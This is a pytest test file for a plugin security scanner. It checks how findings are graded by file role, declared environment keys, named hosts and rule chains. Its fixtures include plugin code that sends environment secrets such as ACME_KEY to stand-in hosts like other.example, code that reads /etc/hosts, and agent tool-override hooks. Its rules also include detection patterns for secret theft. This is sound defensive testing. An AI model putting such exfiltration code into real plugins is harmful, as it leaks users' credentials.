"""What a match weighs: by role, by what the plugin announces, alone or in a chain; and what code is seen to do."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest

from packtool.findings import Severity, Verdict
from packtool.scan import ScanOptions, ScanReading, Subject, scan
from packtool.trees import read_tree

if TYPE_CHECKING:
    from collections.abc import Mapping
    from pathlib import Path


RULES = {
    "test-threat.yaml": ("threat", "ERROR", "pattern: danger(...)", ""),
    "test-odd.yaml": ("suspicious", "WARNING", "pattern: odd(...)", ""),
    "test-key.yaml": (
        "threat",
        "ERROR",
        "patterns: [{pattern: 'send($URL, os.environ[$KEY])'}]",
        ", declared: key",
    ),
    "test-read.yaml": ("suspicious", "WARNING", "pattern: 'os.getenv(\"$KEY\")'", ", declared: key"),
    "host-tampering-play.yaml": ("threat", "ERROR", "pattern: play(...)", ""),
    "agent-text-said.yaml": ("threat", "ERROR", "pattern: say(...)", ""),
    "test-loaded.yaml": ("threat", "ERROR", "pattern: rebind(...)", ", loaded: true"),
    "test-host.yaml": ("threat", "ERROR", "pattern: 'post($URL)'", ", declared: host"),
    "test-one.yaml": ("fact", "INFO", "pattern: one(...)", ""),
    "test-two.yaml": ("fact", "INFO", "pattern: two(...)", ""),
}
CHAIN = """\
chain:
  id: test-{within}
  message: Does one and two.
  metadata: {{kind: threat, why: a, remedy: b, references: [CWE-1]}}
  needs: [test-one, [test-two, test-odd]]
  within: {within}
"""
CASES: dict[str, Mapping[str, str]] = {
    "runtime": {"__init__.py": "danger()\nodd()\n"},
    "support": {"__init__.py": "", "other.py": "danger()\nodd()\n"},
    "declared": {
        "plugin.yaml": "name: x\nrequires_env: [{name: ACME_KEY}]\nhomepage: https://acme.example\n",
        "__init__.py": "import os\nsend('https://api.acme.example/v1', os.environ['ACME_KEY'])\n",
    },
    "declared, sent elsewhere": {
        "plugin.yaml": "name: x\noptional_env: [ACME_KEY]\nhomepage: https://acme.example\n",
        "__init__.py": "import os\nsend('https://other.example/v1', os.environ['ACME_KEY'])\n",
    },
    "not declared": {
        "plugin.yaml": "name: x\nrequires_env: [ACME_KEY]\n",
        "__init__.py": "import os\nsend('https://acme.example', os.environ['OTHER_KEY'])\n",
    },
    "host named": {"README.md": "It talks to Acme.\n", "__init__.py": "post('https://in.acme.example/v1')\n"},
    "host by its address": {
        "README.md": "See https://acme.example.\n",
        "__init__.py": "post('https://in.acme.example')\n",
    },
    "host not named": {"README.md": "It talks to nobody.\n", "__init__.py": "post('https://in.acme.example/v1')\n"},
    "host that a person sets": {"README.md": "It talks.\n", "__init__.py": "post(ADDRESS)\n"},
    "own machine": {"README.md": "It talks.\n", "__init__.py": "post('http://127.0.0.1:80/v1')\n"},
    "key goes home": {
        "__init__.py": "import os\nkey = os.getenv('GH_TOKEN')\nurl = 'https://api.github.com/user'\n",
    },
    "key goes elsewhere too": {
        "__init__.py": "import os\nkey = os.getenv('GH_TOKEN')\na = 'https://api.github.com'\nb = 'https://in.example'\n",
    },
    "key goes nobody knows where": {"__init__.py": "import os\nkey = os.getenv('GH_TOKEN')\n"},
    "key that the reader is told of": {
        "SKILL.md": "---\nname: x\n---\nIt needs `ACME_TOKEN`.\n",
        "go.py": "import os\nkey = os.getenv('ACME_TOKEN')\nsend('https://in.example', os.environ['ACME_TOKEN'])\n",
    },
    "key that only code names": {
        "SKILL.md": "---\nname: x\n---\nGo:\n\n```sh\nexport ACME_TOKEN=1\n```\n",
        "go.py": "import os\nkey = os.getenv('ACME_TOKEN')\n",
    },
    "key in an example": {"SKILL.md": "---\nname: x\n---\nGo:\n\n```python\nkey = os.getenv('GH_TOKEN')\n```\n"},
    "own process": {"__init__.py": "from . import a\n", "a.py": "rebind()\n", "b.py": "rebind()\n"},
    "sent home": {
        "__init__.py": "import os\nsend('https://api.acme.example/v1', os.environ['ACME_KEY'])\n",
    },
    "sent home, by a file that knows others": {
        "__init__.py": "import os\nsend('https://api.acme.example/v1', os.environ['ACME_KEY'])\n"
        + "pass\n" * 50
        + "other = 'https://in.example'\n",
    },
    "sent nobody knows where beside a remark": {
        "__init__.py": "import os\n# https://api.acme.example/v1\nsend(where(), os.environ['ACME_KEY'])\n",
    },
    "host in a test": {"__init__.py": "", "tests/test_x.py": "play()\n"},
    "attack in a test": {"__init__.py": "", "tests/test_x.py": "say(1)\n"},
    "host in a test that runs": {"__init__.py": "from .tests import test_x\n", "tests/test_x.py": "play()\n"},
    "one function": {"__init__.py": "def f():\n    one()\n    two()\n"},
    "two functions": {"__init__.py": "def f():\n    one()\n\n\ndef g():\n    two()\n"},
    "two files": {"__init__.py": "from . import b\none()\n", "b.py": "two()\n"},
    "two files, one not reached": {"__init__.py": "one()\n", "b.py": "two()\n"},
    "behaviours": {
        "__init__.py": "import os, subprocess, requests\n"
        "requests.get('https://api.acme.example/v1')\n"
        "subprocess.run(['git', 'status'])\n"
        "os.environ['ACME_KEY']\n"
        "open('/etc/hosts').read()\n"
        "def register(ctx):\n    ctx.register_hook('pre_tool_call', print)\n"
        "    ctx.register_tool('read_file', 'x', {}, print, override=True)\n",
        "tests.py": "import subprocess\nsubprocess.run(['rm', 'x'])\n",
    },
}


@pytest.fixture(scope="module")
def readings(tmp_path_factory: pytest.TempPathFactory) -> dict[str, ScanReading]:
    base = tmp_path_factory.mktemp("weigh")
    rules = base / "rules" / "test"
    for family in ("test", "host-tampering", "agent-text"):
        (base / "rules" / family).mkdir(parents=True)
    for name, (kind, level, pattern, more) in RULES.items():
        (base / "rules" / re.sub(r"-\w+\.yaml$", "", name) / name).write_text(
            f"rules:\n  - id: {name.removesuffix('.yaml')}\n    languages: [python]\n    severity: {level}\n"
            f"    message: Met.\n    {pattern}\n"
            f"    metadata: {{kind: {kind}, why: a, remedy: b, references: [CWE-1]{more}}}\n"
        )
    for within in ("function", "file", "plugin"):
        (rules / f"test-{within}.chain.yaml").write_text(CHAIN.format(within=within))
    subjects = []
    for name, files in CASES.items():
        for path, text in files.items():
            file = base / name / path
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_text(text)
        subjects.append(Subject(tree=read_tree(base / name), name=name))
    return dict(zip(CASES, scan(subjects, ScanOptions(rules=base / "rules")), strict=True))


def told(reading: ScanReading) -> dict[str, Severity]:
    return {finding.rule.id: finding.severity for finding in reading.findings}


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("runtime", {"test-threat": Severity.ERROR, "test-odd": Severity.WARNING}),
        ("support", {"test-threat": Severity.WARNING, "test-odd": Severity.NOTE}),
        ("declared", {}),
        ("declared, sent elsewhere", {"test-key": Severity.ERROR}),
        ("not declared", {"test-key": Severity.ERROR}),
        ("key goes home", {"test-read": Severity.NOTE}),
        ("key goes elsewhere too", {"test-read": Severity.WARNING}),
        ("key goes nobody knows where", {"test-read": Severity.WARNING}),
        ("key that the reader is told of", {"test-key": Severity.ERROR}),
        ("key that only code names", {"test-read": Severity.WARNING}),
        ("key in an example", {"test-read": Severity.NOTE}),
        ("sent home", {"test-key": Severity.WARNING}),
        ("sent nobody knows where beside a remark", {"test-key": Severity.ERROR}),
        ("sent home, by a file that knows others", {"test-key": Severity.ERROR}),
        ("host in a test", {"host-tampering-play": Severity.NOTE}),
        ("attack in a test", {"agent-text-said": Severity.NOTE}),
        ("host in a test that runs", {"host-tampering-play": Severity.ERROR}),
        ("host named", {}),
        ("host by its address", {}),
        ("host not named", {"test-host": Severity.ERROR}),
        ("host that a person sets", {}),
        ("own machine", {}),
        ("one function", dict.fromkeys(["test-function", "test-file", "test-plugin"], Severity.ERROR)),
        ("two functions", dict.fromkeys(["test-file", "test-plugin"], Severity.ERROR)),
        ("two files", {"test-plugin": Severity.ERROR}),
        ("two files, one not reached", {}),
    ],
)
def test_level(readings: dict[str, ScanReading], name: str, expected: dict[str, Severity]) -> None:
    assert told(readings[name]) == expected


def test_what_changes_only_its_own_process_counts_where_the_host_loads_it(readings: dict[str, ScanReading]) -> None:
    found = {finding.location.path: finding.severity for finding in readings["own process"].findings}
    assert found == {"a.py": Severity.ERROR, "b.py": Severity.NOTE}


def test_a_chain_names_its_links(readings: dict[str, ScanReading]) -> None:
    (finding,) = readings["two files"].findings
    assert (finding.location.path, finding.location.line) == ("b.py", 1)
    assert "(__init__.py, line 2)" in finding.message
    assert "(b.py, line 1)" in finding.message


def test_behaviours_of_what_runs(readings: dict[str, ScanReading]) -> None:
    reading = readings["behaviours"]
    assert [(one.kind, one.detail) for one in reading.behaviours] == [
        ("environment", "ACME_KEY"),
        ("files", "reads /etc/hosts"),
        ("hooks", "pre_tool_call"),
        ("network", "api.acme.example"),
        ("subprocess", "git"),
        ("tools", "read_file (overrides)"),
    ]
    assert reading.verdict is Verdict.PASS


def test_the_receipt_accounts_for_every_file(readings: dict[str, ScanReading]) -> None:
    receipt = readings["support"].receipt
    assert [(file["path"], file["role"]) for file in receipt["files"]] == [
        ("__init__.py", "runtime"),
        ("other.py", "support"),
    ]
    assert receipt["verdict"] == "warn"
    assert receipt["engines"]["semgrep"]["files"] == 2
    assert receipt["findings"] == {"test-odd": 1, "test-threat": 1}


@pytest.mark.parametrize(("name", "text"), [("mcp.json", '{"mcpServers":'), ("plugin.yaml", "name: [\n")])
def test_a_manifest_that_cannot_be_parsed_is_no_pass(tmp_path: Path, name: str, text: str) -> None:
    (tmp_path / "__init__.py").write_text("def register(ctx):\n    pass\n")
    (tmp_path / name).write_text(text)
    (reading,) = scan([Subject(tree=read_tree(tmp_path), name="x")], ScanOptions())
    assert told(reading) == {"inventory-unparsed": Severity.ERROR}
